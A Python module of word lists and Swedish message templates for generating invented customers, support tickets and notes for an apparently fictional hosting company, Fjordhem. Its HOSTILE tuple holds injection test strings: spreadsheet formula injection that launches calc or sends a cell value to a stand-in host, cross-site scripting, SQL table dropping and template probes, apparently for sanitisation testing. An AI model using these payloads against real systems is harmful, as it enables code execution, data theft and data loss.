"""Words that the invented people, companies and letters are put together from."""

from __future__ import annotations


def _words(text: str) -> tuple[str, ...]:
    return tuple(text.split())


FIRST = _words(
    "Agnes Alva Amina Arvid Astrid Birgitta Bo Carina Conny Dagny Ebba Edvin Einar Ellen Elsa Emil "
    "Filip Frida Gösta Greta Gunilla Hanna Hassan Henrik Inga Ivar Jonas Kajsa Leila Lovisa Märta Nadia "
    "Nils Olof Pär Ragnhild Rut Saga Sixten Sölve Tage Tuva Ulf Valter Vera Yasmin Zoran Åke Åsa Örjan"
)
LAST = _words(
    "Abrahamsson Alm Björk Boström Ceder Claesson Dalgren Edlund Ekholm Falk Fjellström Gran Grönlund "
    "Hallberg Hägg Isaksson Jönsson Kvist Lindahl Ljung Mattsson Moradi Nordin Norrby Novak Palm "
    "Petrović Rosén Sandell Sjödin Strömberg Sundin Tallberg Thorén Vikström Wallgren Yilmaz Åberg "
    "Åström Östlund"
)
TRADES = _words(
    "Bageri Bokföring Bygg Cykel El Fiske Foto Glas Keramik Måleri Rör Smide Trädgård Åkeri Översättning"
)
STREETS = _words(
    "Almgatan Bryggvägen Fjordgränd Hamngränd Kvarnvägen Lotsgatan Rönnstigen Sjöstigen Ängsgatan Ögatan"
)
CITIES = (
    ("100 04", "Stockholm"),
    ("400 10", "Göteborg"),
    ("200 10", "Malmö"),
    ("700 03", "Örebro"),
    ("720 03", "Västerås"),
    ("350 03", "Växjö"),
    ("900 10", "Umeå"),
)
MAIL_HOSTS = ("brevbrygga.example", "postlåda.example", "kustmejl.example")
"""The second is an internationalised name; it is also written `xn--postlda-ixa.example`."""

PLANS = {"start": 59_00, "plus": 119_00, "pro": 249_00, "server": 799_00}
SERVICES = ("web", "mail", "server", "backup")
AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64) Firefox/133.0",
    "Mozilla/5.0 (Windows NT 10.0) Chrome/131.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1) Safari/605.1",
)
PANEL_PATHS = ("/in", "/panel", "/panel/domaner", "/panel/fakturor", "/panel/e-post", "/panel/profil")
SITE_PATHS = ("/", "/om", "/kassa", "/kontakt", "/medlem/logga-in", "/blogg/hosten")
STAFF = ("support", "drift", "ekonomi")
SUBJECTS = (
    "Fråga om faktura",
    "Kommer inte in",
    "Flytta domän",
    "E-posten studsar",
    "Ändra adress",
    "Uppsägning",
)
DIETS = ("vegetarisk", "glutenfritt", "nötallergi", "halal", "vegansk")
EVENTS = ("Vårträff", "Säkerhetskväll", "Höstträff")
POSITIONS = ("Supporttekniker", "Systemtekniker", "Utvecklare", "Säljare")
SETTINGS = ("tema", "språk", "sidstorlek")
HOSTILE = (
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://skum.example/?x="&A1;"klicka")',
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'; DROP TABLE customers; --",
    "＝1+1",
    "{{7*7}} ${7*7} %s %(x)s",
)
"""What somebody types to harm whoever opens the package."""

FROM_CUSTOMER = (
    "Hej! Jag heter {name} och kommer inte in. Kontot har adressen {mail}. Ring gärna {phone}.",
    "Hej, fakturan kom fel. Mitt personnummer är {pnr}. Adressen är {address}. /{first}",
    "Kan ni bekräfta att domänen står på mig? {pnr} är mitt nummer. Hälsningar {name}",
    "Sidan ligger nere sedan i morse. Kundnummer {no}. Vänliga hälsningar {name}",
    "Min granne {other} har samma fel, nås på {other_mail} eller {other_phone}. /{first}",
    "Hi, please let my colleague {other} ({other_mail}) into the account. Thanks, {first}",
    "{hostile}",
)
FROM_STAFF = (
    "Hej {first}! Tack för ditt brev. Vi tittar på kundnummer {no} och återkommer.",
    "Hej {first}, vi har skickat en länk till {mail}. Vänliga hälsningar, Fjordhem",
    "Vi ringde {phone} utan svar. Ärendet stängs om sju dagar. Skriv annars till support@fjordhem.example.",
    "Hej! Adressen är nu ändrad till {address}. Hör av dig om något ser fel ut.",
)
NOTES = (
    "Ringde {first}, vill byta till större avtal.",
    "Betalar sent men betalar. Talat med {name}.",
    "Ägarbytet gäller {pnr}, legitimation visad.",
    "Svarar bäst på {mail}.",
)
